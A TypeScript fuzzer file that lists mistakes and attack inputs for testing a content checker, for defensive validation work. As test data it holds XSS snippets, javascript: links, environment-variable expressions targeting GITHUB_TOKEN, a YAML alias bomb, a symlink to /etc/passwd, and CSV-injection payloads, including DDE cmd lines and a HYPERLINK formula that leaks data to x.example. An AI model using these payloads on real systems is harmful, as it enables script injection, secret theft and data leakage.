/**
 * The fuzzer's mutations: realistic mistakes (and realistic harmless variations) an officer, an
 * editor or a spreadsheet makes to content, and the attacks a content commit could try. Each kind
 * says whether `check` must refuse it (with the file and the line it changed) or accept it, and
 * whether accepting it by mistake would be harmful: publish code, markup, a value of the build's
 * environment, or a wrong number.
 */

import { symlinkSync } from 'node:fs';
import { basename } from 'node:path';

export type Rng = () => number;

export type Target = 'meeting-body' | 'meeting-file' | 'front-matter' | 'csv' | 'indicator';

export interface Change {
  text: string;
  /** The line (from 1) the mistake is on, when the message must point at it. */
  line?: number;
  /**
   * A change to the file on disk rather than to its text: it replaces the file (already removed)
   * with a link or the like. The engine puts the file back afterwards.
   */
  disk?: (path: string) => void;
}

export interface MutationKind {
  kind: string;
  target: Target;
  expect: 'reject' | 'accept';
  /** Accepting it would publish code, markup, an environment value or a wrong number. */
  harmful: boolean;
  apply(text: string, rng: Rng): Change | undefined;
}

const pick = <T>(rng: Rng, items: readonly T[]): T => items[Math.floor(rng() * items.length)];

/** Lines of a meeting body that are prose: not front matter, tags, headings, lists or code. */
function proseLines(text: string): number[] {
  const lines = text.split('\n');
  const close = lines.findIndex((l, i) => i > 0 && l.trim() === '---');
  const out: number[] = [];
  let fenced = false;
  lines.forEach((l, i) => {
    if (/^\s*(```|~~~)/.test(l)) fenced = !fenced;
    else if (!fenced && i > close && /^[A-Za-z]/.test(l) && !/[<{`]/.test(l)) out.push(i);
  });
  return out;
}

/** Puts a snippet into a prose line of a meeting body, between two words. */
function inBody(snippet: string | ((rng: Rng) => string), ownLine = false) {
  return (text: string, rng: Rng): Change | undefined => {
    const lines = text.split('\n');
    const candidates = proseLines(text);
    if (!candidates.length) return undefined;
    const i = pick(rng, candidates);
    const s = typeof snippet === 'function' ? snippet(rng) : snippet;
    if (ownLine) {
      // A paragraph of its own: a blank line either side.
      lines.splice(i + 1, 0, '', s, '');
      return { text: lines.join('\n'), line: i + 3 };
    }
    const spaces = [...lines[i].matchAll(/ /g)].map((m) => m.index!);
    const at = spaces.length ? pick(rng, spaces) : lines[i].length;
    lines[i] = `${lines[i].slice(0, at)} ${s}${lines[i].slice(at)}`;
    return { text: lines.join('\n'), line: i + 1 };
  };
}

/** Replaces a line of the front matter that starts with `field:`. */
function frontMatterField(field: string, replace: (line: string) => string) {
  return (text: string): Change | undefined => {
    const lines = text.split('\n');
    const i = lines.findIndex((l) => l.startsWith(`${field}:`));
    if (i < 0) return undefined;
    // A folded value (`summary: >-`) goes on over the indented lines after it: replace them too.
    let end = i + 1;
    while (end < lines.length && /^\s+\S/.test(lines[end]) && !/^\s*-/.test(lines[end]) && /[>|][-+]?\s*$/.test(lines[i])) end++;
    lines.splice(i, end - i, replace(lines[i]));
    return { text: lines.join('\n'), line: i + 1 };
  };
}

/** Changes one cell of a random data row of a CSV file (rows without quotes only). */
function csvCell(column: string, value: (old: string, rng: Rng) => string | undefined) {
  return (text: string, rng: Rng): Change | undefined => {
    const lines = text.split('\n');
    const header = lines[0].replace(/^\uFEFF/, '').split(',');
    const c = header.indexOf(column);
    if (c < 0) return undefined;
    const rows = lines.map((l, i) => i).filter((i) => i > 0 && lines[i] && !lines[i].includes('"') && /\d/.test(lines[i].split(',')[header.indexOf('value')] ?? ''));
    if (!rows.length) return undefined;
    const i = pick(rng, rows);
    const cells = lines[i].split(',');
    const next = value(cells[c], rng);
    if (next === undefined) return undefined;
    cells[c] = next;
    lines[i] = cells.join(',');
    return { text: lines.join('\n'), line: i + 1 };
  };
}

const whole = (f: (text: string) => string) => (text: string): Change => ({ text: f(text) });

/** Replaces the file itself on disk (a link, say); check must refuse it at its first line. */
const onDisk = (disk: (path: string) => void) => (text: string): Change => ({ text, line: 1, disk });

/** Inserts lines after the line that starts with `field:`; the mistake is on the first of them. */
function linesAfter(field: string, added: string[]) {
  return (text: string): Change | undefined => {
    const lines = text.split('\n');
    const i = lines.findIndex((l) => l.startsWith(`${field}:`));
    if (i < 0 || /[>|][-+]?\s*$/.test(lines[i])) return undefined;
    lines.splice(i + 1, 0, ...added);
    return { text: lines.join('\n'), line: i + 2 };
  };
}

const BODY_REJECT_HARMFUL: [string, string | ((rng: Rng) => string), boolean?][] = [
  ['env-expression', '{process.env.HOME}'],
  ['env-expression-bracket', '{process.env["GITHUB_TOKEN"]}'],
  ['number-in-braces', '{1,234}'],
  ['year-in-braces', '{2018/19}'],
  ['word-in-braces', '{sic}'],
  ['arithmetic-in-braces', '{12 * 3}'],
  ['import', 'import data from "../../../package.json"', true],
  ['export', 'export const secret = process.env.HOME', true],
  ['script', '<script>alert(document.cookie)</script>', true],
  ['script-inline', '<script src="https://example.net/x.js" />'],
  ['img-onerror', '<img src="x" onerror="alert(1)" />'],
  ['javascript-link', '[the plan](javascript:alert(1))'],
  ['javascript-link-mixed-case', '[the plan](JaVaScRiPt:alert(1))'],
  ['vbscript-link', '[the plan](vbscript:msgbox(1))'],
  ['data-link', '[the plan](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['javascript-definition', '[p]: javascript:alert(1)\n\n[the plan][p]', true],
  ['a-href-javascript', '<a href="javascript:alert(1)">the plan</a>'],
  ['form-action', '<form action="https://example.net/collect"><input name="email" /></form>', true],
  ['meta-refresh', '<meta http-equiv="refresh" content="0; url=https://example.net/" />', true],
  ['iframe', '<iframe src="https://example.net/" />', true],
  ['style', '<style>{"body { display: none }"}</style>', true],
  ['object', '<object data="https://example.net/x.swf" />', true],
  ['base', '<base href="https://example.net/" />', true],
  ['span-with-class', '<span class="sc-draft">Draft</span>'],
  ['sup-with-style', '<sup style="font-size:0">hidden</sup>'],
  ['lowercase-chart', '<chart id="cla-rate" />', true],
  ['lowercase-indicator', '<indicator id="cla-rate" />', true],
  ['unknown-component', '<Graph id="cla-rate" />', true],
  ['component-event-prop', '<Chart id="cla-rate" onClick={() => fetch("https://example.net")} />', true],
  ['component-spread', '<Chart {...globalThis} />', true],
  ['component-id-expression', '<Chart id={process.env.HOME} />', true],
  ['component-extra-prop', '<Chart id="cla-rate" mode="full" level={2} />', true],
  ['term-with-markup', '<Term><b>CLA</b></Term>'],
  ['image', '![a photograph](https://example.net/track.png)'],
  ['fragment', '<>text</>'],
];

const BODY_REJECT_HARMLESS: [string, string, boolean?][] = [
  ['html-comment', '<!-- check with the performance team -->', true],
  ['unclosed-term', '<Term>CLA rate'],
  ['stray-lt-number', 'aged <5'],
  ['unclosed-brace', '{see appendix'],
  ['unknown-indicator', '<Indicator id="cla-rte" />', true],
  ['term-not-in-glossary', '<Term>XYZZY</Term>'],
  ['closing-tag-alone', 'the </Term> rate'],
  ['attribute-unquoted', '<Chart id=cla-rate />', true],
  ['markdown-autolink', 'see <https://example.gov.uk/report>'],
  ['email-autolink', 'email <scrutiny@example.gov.uk>'],
];

const BODY_ACCEPT: [string, string | ((rng: Rng) => string), boolean?][] = [
  ['escaped-braces', '\\{2018/19\\}'],
  ['escaped-lt', '\\<50'],
  ['lt-with-space', 'under < 50 visits a week'],
  ['mdx-comment', '{/* officers: check this figure */}'],
  ['inline-code-braces', '`{process.env.HOME}`'],
  ['https-link', '[the report](https://example.gov.uk/report.pdf)'],
  ['mailto-link', '[email us](mailto:scrutiny@example.gov.uk)'],
  ['site-link', '[the glossary](/glossary/)'],
  ['sup', '9<sup>th</sup>'],
  ['bold-italic', '**much** *better*'],
  ['long-word', 'Kinder- und Jugendhilfeweiterentwicklungsgesetzgebungsverfahren'],
  ['symbols', '£1,200 – 45% … “quoted” ’ ✓ ≥ ±'],
  ['ampersand-entities', 'A&amp;E &copy; & more'],
];

/** A "billion laughs": nine anchors, each a list of nine copies of the one before (9^9 items). */
const ALIAS_BOMB = 'abcdefghi'.split('').map((n, i, all) => `bomb${n}: &${n} [${Array(9).fill(i === 0 ? '"lol"' : `*${all[i - 1]}`).join(', ')}]`);

/** Security review, smaller findings: [kind, expect, snippet, own paragraph]. */
const SECURITY_BODY: [string, 'reject' | 'accept', string, boolean?][] = [
  ['protocol-relative-link', 'reject', '[the plan](//evil.example/plan)'],
  ['backslash-link', 'reject', String.raw`[the plan](\\\\evil.example/plan)`],
  ['slash-backslash-link', 'reject', String.raw`[the plan](/\evil.example/plan)`],
  ['backslash-slash-link', 'reject', String.raw`[the plan](\\/evil.example/plan)`],
  ['tab-between-slashes-link', 'reject', '[the plan](</\t/evil.example/plan>)'],
  ['encoded-slashes-link', 'reject', '[the plan](&#47;&#47;evil.example/plan)'],
  ['protocol-relative-definition', 'reject', '[p]: //evil.example/plan\n\n[the plan][p]', true],
  ['percent-encoded-backslash-path', 'accept', '[the plan](/%5Cglossary/)'],
  ['entities-beside-terms', 'accept', 'CLA&nbsp;&quot;rates&quot; &amp; LAC &lt;here&gt;'],
  ['term-with-non-breaking-space', 'accept', '<Term>Section&nbsp;20</Term>'],
  ['term-with-curly-quotes-around', 'accept', '“<Term>Front door</Term>”'],
  ['code-block-with-language', 'accept', '```js\nconst rate = "<b>" && 12;\n```', true],
  ['code-block-plain', 'accept', '```\n<p style="color: red">pasted</p>\n```', true],
];

export const KINDS: MutationKind[] = [
  ...BODY_REJECT_HARMFUL.map(([kind, s, own]): MutationKind => ({ kind, target: 'meeting-body', expect: 'reject', harmful: true, apply: inBody(s, own) })),
  ...BODY_REJECT_HARMLESS.map(([kind, s, own]): MutationKind => ({ kind, target: 'meeting-body', expect: 'reject', harmful: false, apply: inBody(s, own) })),
  ...BODY_ACCEPT.map(([kind, s, own]): MutationKind => ({ kind, target: 'meeting-body', expect: 'accept', harmful: false, apply: inBody(s, own) })),
  { kind: 'bom', target: 'meeting-file', expect: 'accept', harmful: false, apply: whole((t) => `\uFEFF${t}`) },
  { kind: 'crlf', target: 'meeting-file', expect: 'accept', harmful: false, apply: whole((t) => t.replace(/\r?\n/g, '\r\n')) },
  { kind: 'trailing-spaces', target: 'meeting-file', expect: 'accept', harmful: false, apply: whole((t) => t.replace(/\n/g, '  \n')) },
  { kind: 'summary-with-markup', target: 'front-matter', expect: 'accept', harmful: false, apply: frontMatterField('summary', () => `summary: 'The panel <script>alert(1)</script> read {process.env.HOME}.'`) },
  { kind: 'field-misspelt', target: 'front-matter', expect: 'reject', harmful: false, apply: frontMatterField('summary', (l) => l.replace(/^summary:/, 'sumary:')) },
  { kind: 'period-malformed', target: 'front-matter', expect: 'reject', harmful: false, apply: frontMatterField('period', () => 'period: Q2 2018/19') },
  { kind: 'tab-indent', target: 'front-matter', expect: 'reject', harmful: false, apply: frontMatterField('period', (l) => `\t${l}`) },
  { kind: 'csv-percent-sign', target: 'csv', expect: 'reject', harmful: true, apply: csvCell('value', (v) => `${v}%`) },
  { kind: 'csv-thousands', target: 'csv', expect: 'reject', harmful: true, apply: csvCell('value', () => '"1,234"') },
  { kind: 'csv-words', target: 'csv', expect: 'reject', harmful: true, apply: csvCell('value', () => 'about 12') },
  { kind: 'csv-formula', target: 'csv', expect: 'reject', harmful: true, apply: csvCell('value', () => '=1+1') },
  { kind: 'csv-indicator-typo', target: 'csv', expect: 'reject', harmful: true, apply: csvCell('indicator', (v) => (v.length > 3 ? v.slice(0, -2) + v.at(-1) + v.at(-2) : undefined)) },
  { kind: 'csv-area-capital', target: 'csv', expect: 'reject', harmful: true, apply: csvCell('area', () => 'England') },
  { kind: 'csv-status-typo', target: 'csv', expect: 'reject', harmful: true, apply: csvCell('status', () => 'provisonal') },
  { kind: 'csv-note-with-markup', target: 'csv', expect: 'accept', harmful: false, apply: csvCell('note', () => '<script>alert(1)</script> {process.env.HOME}') },
  { kind: 'csv-bom', target: 'csv', expect: 'accept', harmful: false, apply: whole((t) => `\uFEFF${t}`) },
  { kind: 'csv-crlf', target: 'csv', expect: 'accept', harmful: false, apply: whole((t) => t.replace(/\r?\n/g, '\r\n')) },
  { kind: 'indicator-unit-typo', target: 'indicator', expect: 'reject', harmful: true, apply: frontMatterLike('unit', (l) => l.replace(/unit: *(\S+)/, 'unit: $1s')) },
  { kind: 'indicator-polarity-typo', target: 'indicator', expect: 'reject', harmful: true, apply: frontMatterLike('polarity', () => 'polarity: higher-better') },

  // Security review, smaller findings (issue 24, item 5): links that browsers read as another
  // website, glossary terms beside character references, <Term> punctuation, code blocks, and
  // YAML tags, anchors, aliases, directives and an alias bomb. (Reserved committee ids need a file
  // renamed, which no mutation here does: tests/validation.test.ts and sample-site.test.ts.)
  ...SECURITY_BODY.map(([kind, expect, s, own]): MutationKind => ({ kind, target: 'meeting-body', expect, harmful: expect === 'reject', apply: inBody(s, own) })),
  { kind: 'front-matter-tag', target: 'front-matter', expect: 'reject', harmful: false, apply: frontMatterField('summary', () => 'summary: !!binary VGhlIHBhbmVsIG1ldC4=') },
  { kind: 'front-matter-js-function-tag', target: 'front-matter', expect: 'reject', harmful: false, apply: frontMatterField('summary', () => 'summary: !!js/function "function () { return process.env.HOME }"') },
  { kind: 'front-matter-anchor', target: 'front-matter', expect: 'reject', harmful: false, apply: frontMatterField('summary', () => 'summary: &summary The panel met.') },
  { kind: 'front-matter-alias', target: 'front-matter', expect: 'reject', harmful: false, apply: frontMatterField('summary', () => 'summary: *Provisional* figures were discussed.') },
  { kind: 'front-matter-directive', target: 'front-matter', expect: 'reject', harmful: true, apply: frontMatterField('period', (l) => `%YAML 1.1\n${l}`) },
  { kind: 'front-matter-alias-bomb', target: 'front-matter', expect: 'reject', harmful: true, apply: linesAfter('period', ALIAS_BOMB) },
  { kind: 'indicator-tag', target: 'indicator', expect: 'reject', harmful: false, apply: frontMatterLike('title', (l) => l.replace(/^title: */, 'title: !!binary ')) },
  { kind: 'indicator-merge-key', target: 'indicator', expect: 'reject', harmful: false, apply: linesAfter('title', ['shared: &shared { file: x }', 'copied:', '  <<: *shared']) },
  { kind: 'indicator-alias-bomb', target: 'indicator', expect: 'reject', harmful: true, apply: linesAfter('title', ALIAS_BOMB) },

  // --- Formula injection in a data note (CSV injection) ---------------------------------------
  // A note a spreadsheet would run: OWASP's payloads, or a cell pasted from Excel. check answers
  // with a warning only, which loadContent keeps apart from its problems, so here it is accepted;
  // and it is accepted harmlessly, because every CSV download writes such a note with an
  // apostrophe in front (src/lib/open-data/csv-safe.ts; tests/csv-injection.test.ts builds one).
  // Each cell is written as CSV wants it: quoted where it holds a comma, a quote, a tab, a CR or
  // a line break, so that the character reaches the reader.
  ...(
    [
      ['csv-note-formula-hyperlink', '"=HYPERLINK(""http://x.example/?leak=""&A1,""click"")"'],
      ['csv-note-formula-plus-dde', "+cmd|' /C calc'!A0"],
      ['csv-note-formula-at', '@SUM(1+1)'],
      ['csv-note-formula-minus-dde', "-2+3+cmd|' /C calc'!A0"],
      ['csv-note-formula-after-tab', '"\t=1+1"'],
      ['csv-note-formula-two-lines', '"=A1\n+cmd|\' /C calc\'!A0"'],
    ] as const
  ).map(([kind, cell]): MutationKind => ({ kind, target: 'csv', expect: 'accept', harmful: false, apply: csvCell('note', () => cell) })),

  // --- Files, characters and limits (issue 24, items 2 to 4) -------------------------------
  // A link to a file on the build machine, invisible characters, and sizes and nesting past the
  // limits (src/lib/schemas/limits.ts): each refused at its file and line, before slow work.
  { kind: 'link-outside', target: 'indicator', expect: 'reject', harmful: true, apply: onDisk((path) => symlinkSync('/etc/passwd', path)) },
  { kind: 'link-loop', target: 'meeting-file', expect: 'reject', harmful: false, apply: onDisk((path) => symlinkSync(basename(path), path)) },
  { kind: 'nul-in-summary', target: 'front-matter', expect: 'reject', harmful: true, apply: frontMatterField('summary', () => 'summary: The panel\u0000 met.') },
  { kind: 'bidi-override', target: 'meeting-body', expect: 'reject', harmful: true, apply: inBody('\u202Eevil') },
  { kind: 'zero-width-in-note', target: 'csv', expect: 'reject', harmful: true, apply: csvCell('note', () => 'see\u200Bnote') },
  { kind: 'c1-control-in-note', target: 'csv', expect: 'reject', harmful: true, apply: csvCell('note', () => 'before\u0085after') },
  { kind: 'lone-cr-in-note', target: 'csv', expect: 'reject', harmful: true, apply: csvCell('note', () => '"\r=1+1"') },
  { kind: 'title-100k', target: 'front-matter', expect: 'reject', harmful: false, apply: frontMatterField('agendaItem', () => `agendaItem: { number: "4", title: "${'A'.repeat(100_000)}" }`) },
  { kind: 'nested-quotes-10k', target: 'meeting-body', expect: 'reject', harmful: false, apply: inBody(`${'>'.repeat(10_000)} deep`, true) },
  { kind: 'nested-list-items', target: 'meeting-body', expect: 'reject', harmful: false, apply: inBody(`${'- '.repeat(3_000)}x`, true) },
  { kind: 'nested-emphasis', target: 'meeting-body', expect: 'reject', harmful: false, apply: inBody(`${'*_'.repeat(3_000)}x${'_*'.repeat(3_000)}`) },
  { kind: 'body-50mb', target: 'meeting-file', expect: 'reject', harmful: false, apply: (text) => ({ text: text + 'word '.repeat(10_000_000), line: 1 }) },
];

/** Replaces the line of a YAML file that starts with `field:`. */
function frontMatterLike(field: string, replace: (line: string) => string) {
  return frontMatterField(field, replace);
}
